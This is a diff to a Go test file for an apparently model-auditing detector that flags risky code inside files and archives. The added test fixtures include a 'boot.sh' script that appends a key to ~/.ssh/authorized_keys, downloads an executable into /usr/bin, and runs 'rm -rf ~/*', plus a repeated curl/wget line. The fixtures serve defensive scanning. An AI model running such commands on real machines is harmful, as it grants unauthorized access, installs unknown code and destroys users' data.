@@ -4,6 +4,7 @@ import (
 	"archive/zip"
 	"bytes"
 	"encoding/json"
+	"strings"
 	"testing"
 
 	"github.com/modelaudit/modelaudit/internal/detector/archive"
@@ -46,7 +47,7 @@ func TestDetector(t *testing.T) {
 	var cases []detectortest.Case
 	add := func(name, file string, data []byte, want ...string) {
 		if want == nil { // what is no model is not clean by itself
-			cases = append(cases, detectortest.Case{Name: name, File: "m.zip", Data: zipped(file, data)})
+			cases = append(cases, detectortest.Case{Name: name, File: "m.zip", Data: zipped(file, data), Heavy: len(data) > 1000})
 			return
 		}
 		cases = append(cases, detectortest.Case{Name: name, File: file, Data: data, Want: want, AnyPrefix: text, Named: "sources are known by their names"})
@@ -68,8 +69,10 @@ func TestDetector(t *testing.T) {
 	add("Python that does much", "train.py", []byte("import os, subprocess\nos.system('echo poc')\nsubprocess.run(['git', 'status'])\nexec(open('v.py').read())\n"))
 	add("a handler that starts programs when asked", "handler.py", []byte("import os\ndef f():\n    os.system('echo poc')\n"))
 	add("a shell script", "run.sh", []byte("set -e\ncurl -o x.tgz https://example.org/x.tgz\ntar xf x.tgz\n"))
+	add("a script that sets a machine up", "boot.sh", []byte("echo 'export A=1' >> ~/.bashrc\ncat key >> ~/.ssh/authorized_keys\ncurl -o /usr/bin/k https://example.org/k\nchmod +x /usr/bin/k\nrm -rf ~/*\n"))
 	add("a notebook", "a.ipynb", notebook("!pip install x", "%cd x\nprint(1)"))
 	add("no Python", "x.py", []byte("exec(((\n"))
+	add("a long script", "configure", []byte("#!/bin/sh\n"+strings.Repeat("curl x | wget y\n", 60_000)))
 	add("other text", "x.txt", []byte(plain))
 	cases = append(cases, []detectortest.Case{
 		{Name: "in an archive", File: "m.zip", Data: zipped("a/train.py", []byte("import os\nos.system('"+plain+"')\n")), Want: []string{hidden}},
